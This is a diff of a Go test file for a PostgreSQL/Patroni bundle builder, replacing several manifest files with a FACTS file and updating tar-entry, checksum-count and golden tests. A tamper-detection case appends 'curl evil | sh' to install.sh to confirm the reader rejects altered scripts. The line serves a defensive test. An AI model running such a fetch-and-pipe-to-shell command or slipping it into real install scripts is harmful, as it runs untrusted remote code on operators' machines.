@@ -16,6 +16,7 @@ import (
 	"testing"
 
 	"github.com/pgha-bundle/pgha-bundle/internal/testutil"
+	"github.com/pgha-bundle/pgha-bundle/layout"
 )
 
 func TestWriteIsReproducible(t *testing.T) {
@@ -92,7 +93,7 @@ func TestTarEntries(t *testing.T) {
 	}
 	for _, want := range []string{
 		"demo-pg2/", "demo-pg2/install.sh", "demo-pg2/upgrade.sh", "demo-pg2/uninstall.sh", "demo-pg2/lib.sh",
-		"demo-pg2/FILES", "demo-pg2/PACKAGES", "demo-pg2/SHA256SUMS", "demo-pg2/manifest.json", "demo-pg2/bundle.env",
+		"demo-pg2/FACTS", "demo-pg2/SHA256SUMS", "demo-pg2/manifest.json",
 		"demo-pg2/files/etc/patroni/patroni.yml", "demo-pg2/packages/keys/RPM-GPG-KEY-test",
 		"demo-pg2/packages/etcd-3.5.12-1.el9.x86_64.rpm",
 	} {
@@ -109,7 +110,7 @@ func TestTarEntries(t *testing.T) {
 }
 
 // TestExtractAndSHA256SUMS extracts with GNU tar and checks with sha256sum,
-// as an operator would, and runs FILES through the same read the scripts use.
+// as an operator would.
 func TestExtractAndSHA256SUMS(t *testing.T) {
 	tarBin := testutil.NeedTool(t, "tar", "tar")
 	sha := testutil.NeedTool(t, "sha256sum", "coreutils")
@@ -129,7 +130,7 @@ func TestExtractAndSHA256SUMS(t *testing.T) {
 	if err != nil {
 		t.Fatalf("sha256sum -c: %v\n%s", err, b)
 	}
-	if n := strings.Count(string(b), ": OK"); n != 13+4+4+1+3 { // payload (9 files and 4 TLS files), scripts, FILES/PACKAGES/manifest/bundle.env, key, rpms
+	if n := strings.Count(string(b), ": OK"); n != 13+4+2+1+3 { // payload (9 files and 4 TLS files), scripts, FACTS/manifest, key, rpms
 		t.Errorf("sha256sum checked %d files:\n%s", n, b)
 	}
 	// Tampering with one payload file makes sha256sum fail.
@@ -206,7 +207,13 @@ func TestManifestGolden(t *testing.T) {
 		t.Fatal(err)
 	}
 	testutil.Golden(t, "testdata/manifest.json", got)
-	testutil.Golden(t, "testdata/FILES", filesList(&b.Manifest))
+	nf, ok := b.Payload.Lookup(layout.NodeFacts)
+	if !ok {
+		t.Fatal("the payload read back has no node facts")
+	}
+	facts, err := facts(&b.Manifest, nf.Content)
+	must(t, err)
+	testutil.Golden(t, "testdata/FACTS", facts)
 }
 
 // rewrite copies a bundle, passing each member through edit.
@@ -260,7 +267,7 @@ func TestReadRejectsTampering(t *testing.T) {
 		{"payload file", "demo-pg2/files/etc/etcd/etcd.conf.yml", func([]byte) []byte { return []byte("name: evil\n") }, "etc/etcd/etcd.conf.yml: sha256"},
 		{"package", "demo-pg2/packages/etcd-3.5.12-1.el9.x86_64.rpm", func(b []byte) []byte { return append(b, 'x') }, "etcd-3.5.12-1.el9.x86_64.rpm: sha256"},
 		{"script", "demo-pg2/install.sh", func(b []byte) []byte { return append(b, "\ncurl evil | sh\n"...) }, "install.sh: sha256"},
-		{"sums", "demo-pg2/SHA256SUMS", func(b []byte) []byte { return bytes.Replace(b, []byte("  FILES\n"), []byte("  EXTRA\n"), 1) }, "lists EXTRA, which the bundle lacks"},
+		{"sums", "demo-pg2/SHA256SUMS", func(b []byte) []byte { return bytes.Replace(b, []byte("  FACTS\n"), []byte("  EXTRA\n"), 1) }, "lists EXTRA, which the bundle lacks"},
 	}
 	for _, tc := range cases {
 		t.Run(tc.name, func(t *testing.T) {
